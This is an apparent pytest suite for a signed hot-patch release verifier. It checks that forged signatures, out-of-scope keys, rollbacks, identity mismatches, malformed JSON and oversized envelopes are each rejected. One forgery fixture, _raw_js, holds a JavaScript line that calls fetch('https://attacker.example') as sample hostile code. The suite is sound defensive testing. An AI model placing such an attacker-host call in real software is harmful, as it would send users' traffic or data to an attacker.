from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import attrs
import pytest

from hotpatch_core import strictjson, wire
from hotpatch_core.envelope import decode_envelope, encode_envelope, sign_envelope
from hotpatch_core.errors import (
    BadSignatureError,
    EpochError,
    EquivocationError,
    ExpiredError,
    HotPatchError,
    IdentityMismatchError,
    KeyScopeError,
    MalformedEnvelopeError,
    PayloadTypeError,
    RollbackError,
    SchemaError,
    StrictJSONError,
    ThresholdError,
    TooLargeError,
    UnknownKeyError,
    UnsignedError,
)
from hotpatch_core.keys import SigningKey
from hotpatch_core.manifest import RELEASE_PAYLOAD_TYPE, Platform, encode_manifest
from hotpatch_core.release import (
    DeviceIdentity,
    VerifiedRelease,
    sign_release,
    verify_publication,
    verify_release,
)
from hotpatch_core.testing import FIXED_TIME, PKI, BuiltRelease, build_release, make_pki
from hotpatch_core.trust import PublisherKey, Scope, rotate_trust_root, sign_trust_root
from hotpatch_core.versions import Version

NOW = FIXED_TIME


def _envelope_with(data: bytes, **changes: Any) -> bytes:
    return encode_envelope(attrs.evolve(decode_envelope(data), **changes))


def test_valid_release_verifies(pki: PKI, built: BuiltRelease, device: DeviceIdentity) -> None:
    """A correctly signed release for this device verifies and keeps its exact bytes."""
    data = sign_release(built.manifest, [pki.publisher])
    release = verify_release(data, pki.root, device, None, NOW)
    assert release.manifest == built.manifest
    assert release.envelope == data
    assert release.signed_by == {pki.publisher.key_id}


def test_install_requires_verified_type() -> None:
    """A VerifiedRelease cannot be made outside the verification path (A12)."""
    with pytest.raises(TypeError, match="only by verify_release"):
        VerifiedRelease(None, "x", b"", frozenset(), _token=object())  # type: ignore[arg-type]


# --- A1: arbitrary installation -------------------------------------------

OTHER_KEY = SigningKey(b"\x42" * 32)


def _no_signature(data: bytes, _pki: PKI) -> bytes:
    return _envelope_with(data, signatures=())


def _garbage_signature(data: bytes, _pki: PKI) -> bytes:
    envelope = decode_envelope(data)
    garbage = tuple(attrs.evolve(s, sig=b"\x01" * 64) for s in envelope.signatures)
    return _envelope_with(data, signatures=garbage)


def _unknown_key(data: bytes, _pki: PKI) -> bytes:
    envelope = decode_envelope(data)
    return encode_envelope(sign_envelope(envelope.payload_type, envelope.payload, [OTHER_KEY]))


def _over_other_bytes(data: bytes, pki: PKI) -> bytes:
    other = build_release({"index.android.bundle": b"evil()"}).manifest
    signed_other = decode_envelope(sign_release(other, [pki.publisher]))
    return _envelope_with(data, signatures=signed_other.signatures)


def _wrong_payload_type(data: bytes, pki: PKI) -> bytes:
    envelope = decode_envelope(data)
    return encode_envelope(
        sign_envelope("application/vnd.hotpatch.root+json", envelope.payload, [pki.publisher])
    )


def _truncated(data: bytes, _pki: PKI) -> bytes:
    return data[: len(data) // 2]


def _raw_js(_data: bytes, _pki: PKI) -> bytes:
    return b"global.evil = function () { fetch('https://attacker.example') };"


ARBITRARY_INSTALLATION: dict[str, tuple[Callable[[bytes, PKI], bytes], type[HotPatchError]]] = {
    "no signature": (_no_signature, UnsignedError),
    "garbage signature": (_garbage_signature, BadSignatureError),
    "unknown key": (_unknown_key, UnknownKeyError),
    "signature over other bytes": (_over_other_bytes, BadSignatureError),
    "wrong payload type": (_wrong_payload_type, PayloadTypeError),
    "truncated envelope": (_truncated, MalformedEnvelopeError),
    "raw JS instead of an envelope": (_raw_js, MalformedEnvelopeError),
}


@pytest.mark.parametrize(
    ("attack", "error"), ARBITRARY_INSTALLATION.values(), ids=ARBITRARY_INSTALLATION.keys()
)
def test_arbitrary_installation_rejected(
    pki: PKI,
    built: BuiltRelease,
    device: DeviceIdentity,
    attack: Callable[[bytes, PKI], bytes],
    error: type[HotPatchError],
) -> None:
    """Each way of forging a release raises its own typed error (A1)."""
    data = attack(sign_release(built.manifest, [pki.publisher]), pki)
    with pytest.raises(error):
        verify_release(data, pki.root, device, None, NOW)
    with pytest.raises(error):
        verify_publication(data, pki.root, NOW)


def test_key_out_of_scope_rejected(built: BuiltRelease, device: DeviceIdentity) -> None:
    """A publisher key for another app cannot sign this app's releases (A1, A10)."""
    pki = make_pki(scope=Scope(("com.other.app",), ("*",), ("*",)))
    data = sign_release(built.manifest, [pki.publisher])
    with pytest.raises(KeyScopeError):
        verify_release(data, pki.root, device, None, NOW)
    with pytest.raises(KeyScopeError):
        verify_publication(data, pki.root, NOW)


@pytest.mark.parametrize(
    "scope",
    [
        Scope(("com.example.app",), ("ios",), ("*",)),
        Scope(("com.example.app",), ("android",), ("staging",)),
    ],
)
def test_publisher_key_scope_per_platform_and_channel(
    scope: Scope, built: BuiltRelease, device: DeviceIdentity
) -> None:
    """Scope binds platform and channel as well as app."""
    pki = make_pki(scope=scope)
    with pytest.raises(KeyScopeError):
        verify_release(sign_release(built.manifest, [pki.publisher]), pki.root, device, None, NOW)


def test_expired_publisher_key_rejected(built: BuiltRelease, device: DeviceIdentity) -> None:
    """A publisher key past its expiry no longer counts (A10)."""
    pki = make_pki()
    expiring = attrs.evolve(pki.root.publishers[0], expires_at=NOW)
    root = attrs.evolve(pki.root, publishers=(expiring,))
    data = sign_release(built.manifest, [pki.publisher])
    verify_release(data, root, device, None, NOW - timedelta(seconds=1))
    with pytest.raises(ExpiredError):
        verify_release(data, root, device, None, NOW)


def test_expired_trust_root_rejected(pki: PKI, built: BuiltRelease, device: DeviceIdentity) -> None:
    """Nothing verifies under an expired trust root."""
    root = attrs.evolve(pki.root, expires_at=NOW)
    with pytest.raises(ExpiredError):
        verify_release(sign_release(built.manifest, [pki.publisher]), root, device, None, NOW)


def test_expired_manifest_rejected(pki: PKI, device: DeviceIdentity) -> None:
    """A manifest with an expiry in the past is refused (A5)."""
    manifest = attrs.evolve(build_release({"a.js": b"1"}).manifest, expires_at=NOW)
    with pytest.raises(ExpiredError):
        verify_release(sign_release(manifest, [pki.publisher]), pki.root, device, None, NOW)


# --- A14 / A10: thresholds --------------------------------------------------


def test_release_threshold_counts_distinct_keys(
    built: BuiltRelease, device: DeviceIdentity
) -> None:
    """A 2-signature channel rejects one key signing twice, accepts two keys (A14)."""
    second = SigningKey(b"\x09" * 32)
    base = make_pki()
    extra = PublisherKey(second.public_key, "release-manager", Scope(("*",), ("*",), ("*",)))
    root = attrs.evolve(
        base.root,
        publishers=(*base.root.publishers, extra),
        release_thresholds={"production": 2},
    )
    twice = sign_release(built.manifest, [base.publisher] * 9)
    with pytest.raises(ThresholdError):
        verify_release(twice, root, device, None, NOW)
    both = sign_release(built.manifest, [base.publisher, second])
    assert verify_release(both, root, device, None, NOW).signed_by == {
        base.publisher.key_id,
        second.key_id,
    }


# --- A11: wrong software ------------------------------------------------------

IDENTITY_FIELDS = {
    "app_id": ("com.example.app", "com.example.other"),
    "platform": (Platform.ANDROID, Platform.IOS),
    "channel": ("production", "staging"),
    "binary_range": ("1.x", "2.x"),
}


@pytest.mark.parametrize(
    "wrong", [c for c in itertools.product([False, True], repeat=4) if any(c)], ids=str
)
def test_identity_mismatch(pki: PKI, wrong: tuple[bool, bool, bool, bool]) -> None:
    """Every combination of wrong app, platform, channel and binary is refused (A11)."""
    chosen = {
        name: values[1] if flip else values[0]
        for (name, values), flip in zip(IDENTITY_FIELDS.items(), wrong, strict=True)
    }
    built = build_release({"index.bundle": b"x"}, **chosen)  # type: ignore[arg-type]
    device = DeviceIdentity("com.example.app", Platform.ANDROID, "production", Version(1, 4, 0))
    with pytest.raises(IdentityMismatchError) as caught:
        verify_release(sign_release(built.manifest, [pki.publisher]), pki.root, device, None, NOW)
    first_wrong = next(name for name, flip in zip(IDENTITY_FIELDS, wrong, strict=True) if flip)
    assert caught.value.field == first_wrong


# --- A8: rollback, A4: fast-forward ------------------------------------------


def _signed(pki: PKI, sequence: int, epoch: int = 1, body: bytes = b"x") -> bytes:
    built = build_release({"index.bundle": body}, sequence=sequence, epoch=epoch)
    return sign_release(built.manifest, [pki.publisher])


def test_lower_sequence_rejected(pki: PKI, device: DeviceIdentity) -> None:
    """A release below the high-water mark is a rollback (A8)."""
    newest = verify_release(_signed(pki, 7), pki.root, device, None, NOW)
    with pytest.raises(RollbackError):
        verify_release(_signed(pki, 6), pki.root, device, newest.high_water_mark(), NOW)


def test_equal_sequence_different_hash_rejected(pki: PKI, device: DeviceIdentity) -> None:
    """Two manifests at one sequence are equivocation; the same one again is fine (A8)."""
    first = verify_release(_signed(pki, 7), pki.root, device, None, NOW)
    mark = first.high_water_mark()
    assert verify_release(first.envelope, pki.root, device, mark, NOW) == first
    with pytest.raises(EquivocationError):
        verify_release(_signed(pki, 7, body=b"other"), pki.root, device, mark, NOW)


def test_fast_forward_recovery(device: DeviceIdentity) -> None:
    """After a stolen key signs sequence 2^62, a root rotation with a new epoch recovers (A4)."""
    pki = make_pki(seed=1)
    stolen = verify_release(_signed(pki, 2**62), pki.root, device, None, NOW)
    mark = stolen.high_water_mark()
    with pytest.raises(RollbackError):
        verify_release(_signed(pki, 8), pki.root, device, mark, NOW)
    new_publisher = SigningKey(b"\x77" * 32)
    v2 = attrs.evolve(
        pki.root,
        version=2,
        epoch=2,
        publishers=(
            PublisherKey(new_publisher.public_key, "ci-2027", Scope(("*",), ("*",), ("*",))),
        ),
    )
    root2 = rotate_trust_root(pki.root, sign_trust_root(v2, pki.root_keys))
    legit = build_release({"index.bundle": b"fixed"}, sequence=8, epoch=2).manifest
    release = verify_release(sign_release(legit, [new_publisher]), root2, device, mark, NOW)
    assert release.high_water_mark().position() == (2, 8)
    old_epoch = build_release({"index.bundle": b"y"}, sequence=9, epoch=1).manifest
    with pytest.raises(EpochError):
        verify_release(sign_release(old_epoch, [new_publisher]), root2, device, mark, NOW)
    with pytest.raises(UnknownKeyError):
        verify_release(_signed(pki, 2**62 + 1, epoch=2), root2, device, mark, NOW)


# --- A13: ambiguous bytes ----------------------------------------------------


def test_verify_uses_exact_bytes(pki: PKI, built: BuiltRelease, device: DeviceIdentity) -> None:
    """Whitespace added to the payload after signing breaks the signature (A13)."""
    data = sign_release(built.manifest, [pki.publisher])
    envelope = decode_envelope(data)
    spaced = _envelope_with(data, payload=envelope.payload.replace(b",", b", ", 1))
    with pytest.raises(BadSignatureError):
        verify_release(spaced, pki.root, device, None, NOW)


def _sign_body(body: bytes, key: SigningKey) -> bytes:
    return encode_envelope(sign_envelope(RELEASE_PAYLOAD_TYPE, body, [key]))


def test_duplicate_json_key_rejected(pki: PKI, built: BuiltRelease, device: DeviceIdentity) -> None:
    """A signed manifest with a duplicate key is refused even though it verifies (A13)."""
    body = encode_manifest(built.manifest)
    body = body[:-1] + b',"sequence":99}'
    with pytest.raises(StrictJSONError, match="duplicate"):
        verify_release(_sign_body(body, pki.publisher), pki.root, device, None, NOW)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("sequence", 1.0),
        ("sequence", "2"),
        ("sequence", True),
        ("sequence", 0),
        ("epoch", -1),
        ("appId", "com.example.app/../x"),
        ("binaryRange", "not a range"),
        ("version", "1.2"),
        ("createdAt", "yesterday"),
    ],
)
def test_strict_manifest_fields(
    pki: PKI, built: BuiltRelease, device: DeviceIdentity, field: str, value: object
) -> None:
    """Wrongly typed or out-of-range fields are refused with the field named."""
    document = wire.unstructure(built.manifest)
    document[field] = value
    body = json.dumps(document).encode()
    with pytest.raises((SchemaError, StrictJSONError)) as caught:
        verify_release(_sign_body(body, pki.publisher), pki.root, device, None, NOW)
    if isinstance(caught.value, SchemaError):
        assert caught.value.field == field


# --- A16 / A2: lengths and caps ------------------------------------------------


@pytest.mark.parametrize("length", [2**31, 2**32, 2**63 - 1, -1])
def test_length_bounds(pki: PKI, built: BuiltRelease, device: DeviceIdentity, length: int) -> None:
    """Archive lengths far beyond the cap are refused before anything is fetched (A16)."""
    document = wire.unstructure(built.manifest)
    document["archive"]["length"] = length
    body = strictjson.canonical(document)
    with pytest.raises(SchemaError) as caught:
        verify_release(_sign_body(body, pki.publisher), pki.root, device, None, NOW)
    assert caught.value.field == "archive.length"


def test_oversized_envelope_rejected(pki: PKI, device: DeviceIdentity) -> None:
    """An envelope beyond the cap is refused before parsing (A2)."""
    huge = b'{"payload":"' + base64.b64encode(b" " * (7 * 1024 * 1024)) + b'"}'
    with pytest.raises(TooLargeError):
        verify_release(huge, pki.root, device, None, NOW)
